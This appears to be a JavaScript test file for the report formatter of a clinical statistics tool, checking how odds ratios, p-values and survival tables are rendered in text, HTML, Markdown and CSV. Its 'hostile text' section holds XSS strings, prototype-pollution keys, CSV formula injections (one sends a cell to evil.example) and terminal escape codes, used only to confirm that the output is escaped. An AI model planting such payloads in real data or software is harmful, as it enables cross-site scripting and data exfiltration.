// bedside/report: figures as journals print them, text from data that may be hostile.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createEngine } from '../../web/index.js';
import { tables, toCSV, toHTML, toMarkdown, toText } from '../../web/report/index.js';
import { genericTables } from '../../web/report/tables/generic.js';
import { sample } from '../../web/workbench/sample.js';

/** @type {import('../../web/index.js').Engine} */
let engine;
/** @type {import('../../web/index.js').Table} */
let births;

before(async () => {
  engine = await createEngine();
  births = await engine.load(sample.url, { dictionary: sample.dictionary });
});
after(() => engine.close());

/**
 * A logistic regression whose terms are given: what the formats make of figures does not need a fit.
 * @param {object[]} terms
 * @param {object} [more]
 */
const logistic = (terms, more = {}) => ({
  analysis: 'logistic',
  spec: {
    outcome: 'died',
    predictors: [],
    positive: null,
    ci: 'wald',
    robust: 'none',
    cluster: null,
    reference: {},
    weights: null,
    confLevel: 0.95,
  },
  n: 100,
  nMissing: 0,
  events: 30,
  method: 'ml',
  warnings: [],
  labels: {},
  factors: [],
  model: {
    cStatistic: 0.7,
    cStatisticLow: 0.6,
    cStatisticHigh: 0.8,
    nagelkerke: 0.1,
    hosmerLemeshow: null,
    aic: 100,
  },
  terms: terms.map((term, index) => ({
    term: `x${index}`,
    level: null,
    p: 0.5,
    oddsRatio: 1,
    orLow: 0.5,
    orHigh: 2,
    n: null,
    events: null,
    ...term,
  })),
  ...more,
});

/**
 * The cells of a table's rows.
 * @param {any} result
 * @returns {Record<string, string[]>} by label
 */
const cellsOf = result =>
  Object.fromEntries(
    tables(result)[0].sections.flatMap(section => section.rows.map(({ label, cells }) => [label, cells])),
  );

describe('figures', () => {
  for (const [p, printed] of /** @type {[number, string][]} */ ([
    [0.0004, '<0.001'],
    [1e-300, '<0.001'],
    [0.001, '0.001'],
    [0.0496, '0.050'],
    [0.276, '0.276'],
    [0.9996, '>0.999'],
    [Number.NaN, '–'],
  ])) {
    it(`p ${p} is ${printed}`, () => assert.equal(cellsOf(logistic([{ p }])).x0.at(-1), printed));
  }

  for (const [figures, printed] of /** @type {[[number, number, number], string][]} */ ([
    [[2.0219, 1.0807, 3.7833], '2.02 (1.08–3.78)'],
    [[0.9949, 0.001, 1.0049], '0.99 (<0.01–1.00)'],
    [[12.5, 0, Number.POSITIVE_INFINITY], '12.50 (<0.01–∞)'],
    [[218237, 1.5, 3.2e12], '2.18×10⁵ (1.50–3.20×10¹²)'],
    [[Number.NaN, Number.NaN, Number.NaN], '–'],
  ])) {
    it(`an odds ratio of ${figures[0]} is ${printed}`, () => {
      const [oddsRatio, orLow, orHigh] = figures;
      assert.equal(cellsOf(logistic([{ oddsRatio, orLow, orHigh }])).x0.at(-2), printed);
    });
  }

  it('coefficients have two digits of their standard error, a real minus and limits parted by a word', async () => {
    const cells = cellsOf(await births.analyze('linear', { outcome: 'lwt', predictors: ['age', 'race'] }));
    // R: coef(summary(lm(lwt ~ age + factor(race), MASS::birthwt))), confint
    assert.deepEqual(cells['Other'], ['−10.0 (−19.2 to −0.7)', '0.034']);
    assert.deepEqual(cells['White'], ['0 (reference)', '']);
  });
});

describe('the table of analyzeOutcome', () => {
  it('has the groups, the test, univariable and multivariable odds ratios in one row', async () => {
    const [table] = tables(await births.analyze('analyzeOutcome', { outcome: 'low' }));
    assert.deepEqual(
      table.columns.map(({ over = '', title }) => `${over}|${title}`),
      [
        '|Variable',
        'Low birth weight (< 2.5 kg)|No, n = 130',
        'Low birth weight (< 2.5 kg)|Yes, n = 59',
        'Low birth weight (< 2.5 kg)|p',
        'Univariable|OR (95% CI)',
        'Univariable|p',
        'Multivariable|OR (95% CI)',
        'Multivariable|p',
      ],
    );
    const rows = table.sections[0].rows;
    const smoking = rows.findIndex(({ label }) => label === 'Smoking in pregnancy');
    const [heading, no, yes] = rows.slice(smoking, smoking + 3);
    assert.equal(heading.cells[2], '0.040'); // R: chisq.test(table(smoke, low))
    assert.deepEqual(no, {
      label: 'No',
      indent: 1,
      cells: ['86 (66.2%)', '29 (49.2%)', '', '1 (reference)', '', '1 (reference)', ''],
    });
    // R: glm(low ~ smoke, binomial, MASS::birthwt)
    assert.deepEqual(yes.cells.slice(0, 5), ['44 (33.8%)', '30 (50.8%)', '', '2.02 (1.08–3.78)', '0.028']);
    assert.match(yes.cells[5], /^\d\.\d\d \(\d\.\d\d–\d\.\d\d\)$/);
  });

  it('follows the chosen reference, counts what is missing, marks what cannot be estimated', async () => {
    const table = await engine.table({
      died: [0, 1, 0, 1, 0, 1, 0, 1, 0, 1, 0, 1],
      arm: ['a', 'a', 'a', 'b', 'b', 'b', 'c', 'c', 'c', null, null, 'a'],
    });
    const result = await table.analyze('analyzeOutcome', { outcome: 'died', reference: { arm: 'b' }, screenP: 1 });
    const cells = cellsOf(result);
    assert.equal(cells.b[3], '1 (reference)');
    assert.match(cells.a[3], /^\d/);
    assert.deepEqual(cells.Missing.slice(0, 2), ['1', '1']);
    table.free();
  });
});

describe('a regression', () => {
  it('shows labels, units, counts of levels and the reference, whose name the dictionary gives', async () => {
    const cells = cellsOf(await births.analyze('logistic', { outcome: 'low', predictors: ['lwt', 'race'] }));
    assert.deepEqual(Object.keys(cells), ['Mother’s weight (lb)', 'Race', 'White', 'Black', 'Other']);
    assert.deepEqual(cells.White, ['96', '23', '1 (reference)', '']);
    assert.deepEqual(cells.Black.slice(0, 2), ['26', '11']);
  });

  it('names the variables of an interaction, and leaves a column alone whose name holds a colon', async () => {
    const crossed = await births.analyze('logistic', { outcome: 'low', predictors: ['age', 'smoke', 'age:smoke'] });
    assert.ok('Mother’s age (years) × Smoking in pregnancy' in cellsOf(crossed));
    assert.ok('CD4:CD8' in cellsOf(logistic([{ term: 'CD4:CD8' }])));
  });

  it('says what the reader has to know: rows left out, method, fit, warnings', () => {
    const result = logistic([{}], {
      nMissing: 7,
      method: 'firth',
      warnings: [{ code: 'SEPARATION', message: 'x0 foretells the outcome.' }],
    });
    const text = toText(result).replaceAll('\n', ' ');
    assert.match(text, /100 patients used, 30 with the event, 7 left out for a missing value\./);
    assert.match(text, /Firth’s penalised likelihood; Wald intervals\./);
    assert.match(text, /c-statistic 0\.70 \(95% CI 0\.60–0\.80\)/);
    assert.match(text, /Warning: x0 foretells the outcome\./);
    assert.doesNotMatch(toText(result, { warnings: false }), /Warning/);
  });
});

describe('survival', () => {
  /** @type {import('../../web/index.js').Table} */
  let lung;
  before(async () => {
    lung = await engine.load(new URL('../conformance/data/surv-lung.csv', import.meta.url), {
      dictionary: { time: { label: 'Survival', unit: 'days' }, sex: { levels: { 1: 'Men', 2: 'Women' } } },
    });
  });
  const spec = { time: 'time', event: 'status', group: 'sex' };

  it('kaplanMeier: medians and restricted means, then the times asked for', async () => {
    const [summary, at] = tables(await lung.kaplanMeier({ ...spec, tau: 700, times: [365, 900] }));
    assert.equal(summary.title, 'Kaplan–Meier survival curves: Survival (days)');
    assert.equal(summary.columns[4].title, 'Mean up to 700 (SE)');
    const [men, women] = summary.sections[0].rows;
    // R: print(survfit(Surv(time, status) ~ sex, lung), rmean = 700)
    assert.deepEqual(men, { label: 'Men', indent: 0, cells: ['138', '112', '270 (212–310)', '309 (19)'] });
    assert.deepEqual(women.cells.slice(0, 3), ['90', '53', '426 (348–550)']);
    assert.ok(summary.notes.includes('Log-rank test: χ² 10.33, df 1, p = 0.001.'));
    assert.equal(at.sections[1].title, 'sex: Women');
    // R: summary(survfit(Surv(time, status) ~ sex, lung), times = c(365, 900), extend = TRUE)
    assert.deepEqual(at.sections[1].rows[0].cells, ['30', '52.6% (42.1%–65.8%)']);
    assert.equal(tables(await lung.kaplanMeier(spec)).length, 1);
  });

  it('says where a median is not reached and which rows a landmark leaves out', async () => {
    const table = await engine.table({ t: [1, 2, 3, 4], e: [0, 1, 0, 0] });
    const [summary] = tables(await table.kaplanMeier({ time: 't', event: 'e', landmark: 2 }));
    assert.equal(summary.sections[0].rows[0].label, 'All');
    assert.match(summary.sections[0].rows[0].cells[2], /^NR/);
    assert.ok(summary.notes.some(note => /1 patients whose time is before 2/.test(note)));
    assert.ok(summary.notes.includes('NR: not reached.'));
  });

  it('nelsonAalen: where each cumulative hazard ends', async () => {
    const cells = cellsOf(await lung.nelsonAalen(spec));
    assert.deepEqual(cells.Men.slice(0, 3), ['138', '112', '1022']);
    assert.match(cells.Men[3], /^\d\.\d\d \(\d\.\d\d–\d\.\d\d\)$/);
  });

  it('logRank: observed and expected events, then the pairs', async () => {
    const [groups, pairs] = tables(await lung.logRank({ ...spec, group: 'ph.ecog', strata: 'sex' }));
    assert.deepEqual(
      groups.sections[0].rows.map(({ label }) => label),
      ['0', '1', '2', '3'],
    );
    assert.match(groups.notes[1], /^Test stratified by sex: χ² \d+\.\d\d, df 3, p < 0\.001\.$/);
    assert.equal(pairs.sections[0].rows.length, 6);
    assert.equal(pairs.sections[0].rows[0].label, '0 and 1');
    // R: survdiff(Surv(time, status) ~ sex, lung)
    assert.deepEqual(cellsOf(await lung.logRank(spec)).Women, ['90', '53', '73.4', '0.72']);
  });
});

describe('a Cox model', () => {
  /** @type {import('../../web/index.js').Table} */
  let lung;
  before(async () => {
    lung = await engine.load(new URL('../conformance/data/surv-lung.csv', import.meta.url), {
      dictionary: {
        time: { label: 'Survival', unit: 'days' },
        age: { label: 'Age', unit: 'years' },
        sex: {
          label: 'Sex',
          levels: [
            [1, 'Male'],
            [2, 'Female'],
          ],
        },
        status: { label: 'Death' },
      },
    });
  });
  after(() => lung.free());
  const model = { time: 'time', event: 'status', predictors: ['age', 'sex'], categorical: ['sex'] };

  it('shows hazard ratios beside the reference level, and what was fitted', async () => {
    const result = await lung.cox({ ...model, eventValue: 2, strata: 'ph.ecog' });
    // R: summary(coxph(Surv(time, status) ~ age + factor(sex) + strata(ph.ecog), lung))
    assert.deepEqual(cellsOf(result), {
      'Age (years)': ['', '', '1.01 (0.99–1.03)', '0.244'],
      Sex: ['', '', '', ''],
      Male: ['137', '111', '1 (reference)', ''],
      Female: ['90', '53', '0.57 (0.41–0.80)', '0.001'],
    });
    const text = toText(result).replaceAll('\n', ' ');
    assert.match(text, /: Survival \(days\)/);
    assert.match(text, /227 patients used, 164 with the event \(2\), 1 left out for a missing value\./);
    assert.match(text, /Partial likelihood, Efron’s ties, stratified by ph\.ecog; Wald intervals\./);
    assert.match(text, /Concordance 0\.583 \(SE 0\.026\); likelihood ratio χ²\(2\) = 12\.47, p = 0\.002/);
    assert.match(text, /Test of proportional hazards \(global\): χ²\(2\) = \d\.\d\d, p = 0\.\d{3}\./);
    assert.doesNotMatch(text, /undefined|NaN/);
  });

  it('says that standard errors are robust', async () => {
    const clustered = await lung.cox({ ...model, cluster: 'inst' });
    assert.match(toText(clustered).replaceAll('\n', ' '), /Standard errors allow for clusters of inst\./);
  });

  it('predicts: a time a line, a patient a column', async () => {
    const at = [
      { age: 60, sex: 1 },
      { age: 74.5, sex: 2 },
    ];
    const [table] = tables(await lung.predictSurvival({ ...model, at, times: [365, 0] }));
    assert.deepEqual(
      table.columns.map(({ over = '', title }) => `${over}|${title}`),
      ['|Survival (days)', 'Survival (95% CI)|Age 60, Sex Male', 'Survival (95% CI)|Age 74.5, Sex Female'],
    );
    // R: summary(survfit(coxph(Surv(time, status) ~ age + factor(sex), lung), newdata), times = 365)
    const [year, start] = table.sections[0].rows;
    assert.deepEqual([year.label, start.label, start.cells[0]], ['365', '0', '100.0% (100.0%–100.0%)']);
    assert.match(year.cells[0], /^35\.5% \(\d\d\.\d%–\d\d\.\d%\)$/);
    assert.match(year.cells[1], /^45\.2% /);
  });
});

describe('toText', () => {
  it('puts the points of a column below each other, and is as wide in every line', async () => {
    const lines = toText(await births.analyze('analyzeOutcome', { outcome: 'low' })).split('\n');
    const rule = lines[1];
    assert.match(rule, /^─+$/);
    const end = lines.lastIndexOf(rule);
    const body = lines.slice(lines.indexOf(rule, 2) + 1, end);
    assert.ok(body.length > 25);
    const at = lines[4].indexOf('OR (95% CI)');
    const points = body.map(line => line.slice(at, at + 18).indexOf('.')).filter(point => point >= 0);
    assert.ok(points.length > 10);
    assert.equal(new Set(points).size, 1);
    for (const line of lines.slice(0, end)) assert.ok(line.length <= rule.length, line);
  });

  it('counts the columns that a terminal takes for Chinese, emoji and accents', () => {
    const [table] = tables(logistic([{ term: '年龄' }, { term: 'âge' }, { term: '💊' }]));
    const lines = toText(table).split('\n').slice(4, 7);
    const columns = lines.map(line => line.slice(0, line.indexOf('1.00')).replace(/[年龄💊]/gu, '##').length);
    assert.deepEqual(columns, [columns[1], columns[1], columns[1]]);
  });
});

const hostile = {
  markup: '<img src=x onerror=alert(1)>',
  attribute: '" onmouseover="alert(1)',
  script: "</td><script>alert('1')</script>",
  prototype: '__proto__',
  constructed: 'constructor',
  formula: '=HYPERLINK("http://evil.example/?"&A1)',
  plus: '+1+cmd|calc',
  at: '@SUM(A1)',
  minus: '-2+3',
  markdown: '[x](javascript:alert(1)) | `y` **z** http://evil.example',
  escape: 'red\u001b[31m\u202etxt\r\nnext',
};

describe('hostile text', () => {
  /** @type {any[]} */
  const results = [];
  before(async () => {
    const names = Object.values(hostile);
    const rows = 60;
    let seed = 1;
    const random = () => {
      seed = (seed * 48271) % 2147483647; // Park & Miller's generator
      return seed / 2147483647;
    };
    const columns = Object.fromEntries([
      ['died', Array.from({ length: rows }, (_, row) => Number((row * 7) % 5 < 2))],
      ...names.map(name => [name, Array.from({ length: rows }, () => (random() < 0.4 ? `${name} 1` : name))]),
    ]);
    // A literal `__proto__` would set a prototype; fromEntries makes a column.
    const dictionary = Object.fromEntries(names.map(name => [name, { label: `${name}!`, unit: name }]));
    const table = await engine.table(columns, { dictionary });
    results.push(
      await table.analyze('describe'),
      await table.analyze('analyzeOutcome', { outcome: 'died' }),
      await table.analyze('logistic', { outcome: 'died', predictors: names.slice(0, 6), method: 'firth' }),
    );
    table.free();
  });

  it('reaches the tables', () => {
    for (const result of results) {
      const text = tables(result)
        .flatMap(table => table.sections.flatMap(section => section.rows.map(({ label }) => label)))
        .join('\n');
      for (const name of Object.values(hostile).slice(0, 4)) assert.ok(text.includes(`${name}! (${name})`), name);
    }
  });

  it('is text in HTML: no tag and no attribute but the table’s own', () => {
    for (const result of results) {
      const markup = toHTML(result, { title: hostile.markup });
      const own = /<\/?(table|caption|thead|tbody|tfoot|tr|th|td|strong)((?: (?:class|scope|colspan)="[\w-]+")*)>/g;
      const rest = markup.replace(own, '');
      assert.doesNotMatch(rest, /[<>"']/);
      assert.ok(markup.includes('&lt;img src=x onerror=alert(1)&gt;'));
    }
  });

  it('is text in Markdown: no HTML, no link, no further cell', () => {
    for (const result of results) {
      const lines = toMarkdown(result).split('\n');
      const cells = lines.filter(line => line.startsWith('|')).map(line => line.match(/(?<!\\)\|/g)?.length);
      assert.equal(new Set(cells).size, 1);
      for (const line of lines) {
        assert.doesNotMatch(line, /</);
        assert.doesNotMatch(line, /(?<!\\)[[\]`]/);
        assert.doesNotMatch(line, /https?:\/\//);
      }
    }
  });

  it('is no formula in CSV', () => {
    for (const result of results) {
      const rows = parsed(toCSV(result));
      assert.equal(new Set(rows.map(row => row.length)).size, 1);
      for (const cell of rows.flat()) {
        if (/^[=+\-@\t\r\n]/.test(cell)) assert.ok(Number.isFinite(Number(cell)), cell);
      }
      assert.ok(rows.flat().some(cell => cell.startsWith(`'=HYPERLINK("http`)));
    }
  });

  it('moves no terminal', () => {
    for (const result of results) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may come through
      assert.doesNotMatch(toText(result), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
  });
});

/**
 * @param {string} csv
 * @returns {string[][]}
 */
function parsed(csv) {
  const rows = [['']];
  const pieces = csv.matchAll(/"((?:[^"]|"")*)"|(\r\n)|(,)|([^",\r\n]+)/g);
  for (const [, quoted, line, comma, plain] of pieces) {
    const row = /** @type {string[]} */ (rows.at(-1));
    if (line) rows.push(['']);
    else if (comma) row.push('');
    else row[row.length - 1] += quoted?.replaceAll('""', '"') ?? plain;
  }
  return rows.slice(0, -1);
}

describe('toCSV', () => {
  it('gives negative numbers as such, and levels with their variable', async () => {
    const [table] = tables(await births.analyze('logistic', { outcome: 'low', predictors: ['race'] }));
    const section = { title: '', rows: [{ label: 'Difference', indent: 0, cells: ['−0.25', '-3', '', ''] }] };
    assert.match(toCSV({ ...table, sections: [section] }), /\r\nDifference,-0\.25,-3,,\r\n$/);
    assert.match(toCSV(table), /\r\nRace: Black,26,11,/);
  });
});

describe('any other analysis', () => {
  const schema = {
    name: 'kappa',
    title: 'Agreement of raters',
    needsTable: true,
    spec: [],
    result: [
      { name: 'n', type: 'integer' },
      { name: 'method', type: 'word' },
      { name: 'kappa', type: 'number' },
      { name: 'p', type: 'number', format: 'pValue' },
      { name: 'agreement', type: 'number', format: 'share' },
      {
        name: 'chiSquared',
        type: 'object',
        fields: [
          { name: 'statistic', type: 'number' },
          { name: 'p', type: 'number', format: 'pValue' },
        ],
      },
      {
        name: 'pairs',
        type: 'objects',
        fields: [
          { name: 'x', type: 'string' },
          { name: 'hazardRatio', type: 'number', format: 'ratio' },
          { name: 'significant', type: 'boolean' },
        ],
      },
      { name: 'scores', type: 'numbers' },
    ],
  };
  const result = {
    analysis: 'kappa',
    n: 20,
    nMissing: 2,
    method: 'cohen',
    kappa: 0.123456,
    p: 1e-9,
    agreement: 0.5,
    chiSquared: { statistic: 12345.678, p: 0.04 },
    pairs: [{ x: 'first', hazardRatio: 1.234, significant: true }],
    scores: new Float64Array(3),
    warnings: [],
    labels: { first: { label: 'First rater', unit: null, levels: null } },
  };

  it('is shown by its schema: single figures in sections, a table for each list', () => {
    const [single, pairs] = genericTables(result, { title: schema.title, warnings: ['Few.'], schema });
    assert.deepEqual(
      single.sections.map(({ title, rows }) => [title, ...rows.map(({ label, cells }) => `${label}: ${cells[0]}`)]),
      [
        ['', 'Method: cohen', 'Kappa: 0.1235', 'p: <0.001', 'Agreement: 50.0%'],
        ['Chi squared', 'Statistic: 12346', 'p: 0.040'],
      ],
    );
    assert.deepEqual(
      pairs.columns.map(({ title }) => title),
      ['X', 'Hazard ratio', 'Significant'],
    );
    assert.deepEqual(pairs.sections[0].rows, [{ label: 'First rater', indent: 0, cells: ['1.23', 'yes'] }]);
    assert.deepEqual([pairs.notes, pairs.warnings], [['20 patients used, 2 left out for a missing value.'], ['Few.']]);
  });
});

it('what is no result is refused', () => {
  for (const wrong of [null, undefined, {}, { analysis: 'astrology' }, { analysis: '__proto__' }]) {
    assert.throws(() => toText(wrong), { name: 'BedsideError', code: 'INVALID_SPEC' });
  }
});
